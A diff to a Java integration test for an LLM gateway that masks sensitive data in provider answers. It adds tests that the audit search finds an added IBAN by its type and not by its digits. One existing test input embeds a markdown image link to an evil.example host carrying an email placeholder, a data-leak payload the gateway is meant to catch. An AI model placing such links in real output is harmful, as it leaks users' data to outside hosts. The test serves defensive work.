@@ -6,6 +6,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.sun.net.httpserver.HttpExchange;
 import com.sun.net.httpserver.HttpServer;
 import io.countersign.audit.read.ExchangeView;
+import io.countersign.audit.search.RecordQuery;
+import io.countersign.audit.search.SearchScope;
 import java.io.IOException;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
@@ -60,8 +62,33 @@ class AnswersIntegrationTest {
                     + ". ![x](https://evil.example/?q=[EMAIL-1])"
                     + " [y](https://crm.example.net/[EMAIL-1])");
         assertThat(record(live).added()).isEqualTo(Map.of("IBAN", 1));
+        assertMarked(record(live));
       }
     }
+  }
+
+  /** What the provider added is found by its type, and not by its words. */
+  @Test
+  void answer_isSearchedByWhatTheRecordShows(@TempDir Path folder) throws Exception {
+    try (LiveGateway live = start(folder, "")) {
+      for (boolean stream : new boolean[] {false, true}) {
+        live.post("/v1/chat/completions", PROMPT.formatted(stream));
+      }
+      // The index follows the record, a moment behind.
+      for (int attempt = 0; attempt < 100 && found(live, "added:IBAN") < 2; attempt++) {
+        Thread.sleep(50);
+      }
+      assertThat(found(live, "added:IBAN")).isEqualTo(2);
+      assertThat(found(live, "\"I wrote to\"")).isEqualTo(2);
+      assertThat(found(live, "1203")).isZero();
+      assertThat(found(live, "DE02")).isZero();
+    }
+  }
+
+  private static int found(LiveGateway live, String query) {
+    RecordQuery typed = RecordQuery.parse(query);
+    SearchScope all = SearchScope.all(false);
+    return live.gateway().audit().search().find(typed, all, null, 25).found().size();
   }
 
   @Test
@@ -75,6 +102,7 @@ class AnswersIntegrationTest {
             .contains("https://crm.example.net/" + MAIL + ")")
             .doesNotContain("=" + MAIL);
         assertThat(record(live).added()).isEqualTo(Map.of("IBAN", 1));
+        assertMarked(record(live));
       }
     }
   }
@@ -97,6 +125,12 @@ class AnswersIntegrationTest {
     String url = "http://127.0.0.1:" + upstream.getAddress().getPort() + "/v1";
     return LiveGateway.start(
         folder, yaml -> yaml.replaceFirst("url: http://127.0.0.1:\\d+/v1", "url: " + url) + more);
+  }
+
+  private static void assertMarked(ExchangeView record) {
+    assertThat(record.maskedOutput())
+        .contains("[ADDED-IBAN-1]")
+        .doesNotContain("DE02", "1203", "2020", "REDACTED");
   }
 
   private static ExchangeView record(LiveGateway live) {
